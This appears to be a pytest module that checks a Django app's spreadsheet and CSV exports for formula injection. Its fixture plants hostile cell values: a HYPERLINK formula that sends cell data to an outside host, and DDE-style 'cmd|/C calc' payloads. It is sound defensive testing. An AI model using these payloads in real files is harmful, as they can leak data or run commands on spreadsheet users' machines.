"""No export (admin lists, the monthly report, the score sheet, the hours export) hands a
spreadsheet program a formula: text that would start one is quoted (OWASP CSV injection),
numbers stay numbers, and an export imported back reads the names as they were."""

from __future__ import annotations

import csv
import datetime
import decimal
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from common.cells import FORMULA_STARTS, safe_cell
from common.months import key
from organizations.models import Unit
from servicemap.models import ServiceSite
from tests.exchange.test_export_round_trip import export
from tests.factories import CommunityFactory, street_staff
from tests.factories.alliance import UnitFactory, contact
from tests.factories.streets import build_street
from tests.factories.volunteers import activity, volunteer
from volunteers import services as volunteer_services
from volunteers.models import Activity, CheckIn, Volunteer

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://x.cn/?"&A1)'  # fits a volunteer's 30 characters


@pytest.fixture
def poisoned():
    street = build_street(communities=1, compounds_per_community=1, buildings=1)
    community = CommunityFactory(parent=street.street, name=EVIL)
    unit = UnitFactory(community=community, name=EVIL)
    person = volunteer(community, name=EVIL, is_party_member=True, work_unit=unit)
    event = activity(community, title=EVIL, place="+1-cmd|' /C calc'!A0")
    checkin = CheckIn.objects.create(
        volunteer=person,
        activity=event,
        community=community,
        checked_in_at=timezone.now() - datetime.timedelta(hours=1),
        hours=2,
        status="closed",
    )
    volunteer_services.hours_review(checkins=[checkin], approve=True, by=None)
    volunteer_services.dual_report_member(volunteer=person, year=timezone.localdate().year)
    ServiceSite.objects.create(
        name="@SUM(1+1)*cmd|' /C calc'!A0",
        kind="rest",
        node=community,
        address="\t=1+1",
        hours="全天",
        latitude="-36.86",
        longitude="-117.74",
    )
    return street, community, unit


def xlsx_cells(content: bytes) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula_in_xlsx(content: bytes) -> list:
    cells = xlsx_cells(content)
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert formulas == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + EVIL in texts or any(t.startswith("'") for t in texts)
    assert not [t for t in texts if t.startswith(FORMULA_STARTS) and safe_cell(t) != t]
    return cells


def assert_no_formula_in_csv(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c.startswith(FORMULA_STARTS) and safe_cell(c) != c] == []
    return rows


@pytest.mark.parametrize("model", [Unit, Volunteer, Activity, ServiceSite])
def test_every_admin_export_quotes_formulas_in_excel_and_csv(client, poisoned, model):
    street, _community, _unit = poisoned
    client.force_login(street_staff(street.street))
    xlsx = export(client, model, fmt=0)
    assert xlsx.status_code == 200
    assert_no_formula_in_xlsx(xlsx.content)
    rows = assert_no_formula_in_csv(export(client, model, fmt=1).content.decode("utf-8-sig"))
    assert any(cell.startswith("'") for row in rows for cell in row)


def test_negative_numbers_stay_numbers_in_the_admin_export(client, poisoned):
    street, _community, _unit = poisoned
    client.force_login(street_staff(street.street))
    values = [c.value for c in xlsx_cells(export(client, ServiceSite, fmt=0).content)]
    numbers = {decimal.Decimal(str(v)) for v in values if isinstance(v, int | float)}
    assert {decimal.Decimal("-36.86"), decimal.Decimal("-117.74")} <= numbers
    text = export(client, ServiceSite, fmt=1).content.decode("utf-8-sig")
    assert "-117.74" in text and "'-117.74" not in text


def test_the_monthly_report_quotes_a_community_named_as_a_formula(client, poisoned):
    street, _community, _unit = poisoned
    client.force_login(street_staff(street.street))
    response = client.get(
        reverse("dashboard:report"), {"month": key(timezone.localdate()), "format": "xlsx"}
    )
    cells = assert_no_formula_in_xlsx(response.content)
    assert "'" + EVIL in [c.value for c in cells]
    assert any(isinstance(c.value, int) for c in cells)  # the figures are still numbers


def test_the_score_sheet_quotes_a_member_named_as_a_formula(client, poisoned):
    _street, _community, unit = poisoned
    client.force_login(contact(unit))
    response = client.get(
        reverse("volunteers:score-sheet", args=[unit.pk, timezone.localdate().year]),
        {"format": "csv"},
    )
    rows = assert_no_formula_in_csv(response.content.decode("utf-8-sig"))
    assert rows[1][0] == "'" + EVIL and rows[1][2] == "1"


def test_the_hours_export_quotes_names_and_keeps_hours_a_number(client, poisoned):
    street, _community, _unit = poisoned
    client.force_login(street_staff(street.street))
    response = client.get(reverse("volunteers:hours-export"), {"month": key(timezone.localdate())})
    cells = assert_no_formula_in_xlsx(response.content)
    values = [c.value for c in cells]
    assert "'" + EVIL in values and 2 in values


def test_a_quoted_export_imported_back_keeps_the_names(client, poisoned, run_job):
    street, _community, unit = poisoned
    staff = street_staff(street.street)
    client.force_login(staff)
    body = export(client, Unit, fmt=0).content
    job = run_job(staff, "units", SimpleUploadedFile("units.xlsx", body), confirm=True)
    assert job.status == "done", job.report["errors"][:3]
    assert job.report["totals"]["update"] == 0 and job.report["totals"]["new"] == 0
    unit.refresh_from_db()
    assert unit.name == EVIL


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (EVIL, "'" + EVIL),
        ("+86 139 1234 5678", "'+86 139 1234 5678"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-3", "-3"),
        ("+2.5", "+2.5"),
        (-3, -3),
        (-2.5, -2.5),
        (decimal.Decimal("-117.74"), decimal.Decimal("-117.74")),
        ("医院", "医院"),
        (None, None),
    ],
)
def test_safe_cell_quotes_formulas_and_leaves_numbers(value, cell):
    assert safe_cell(value) == cell
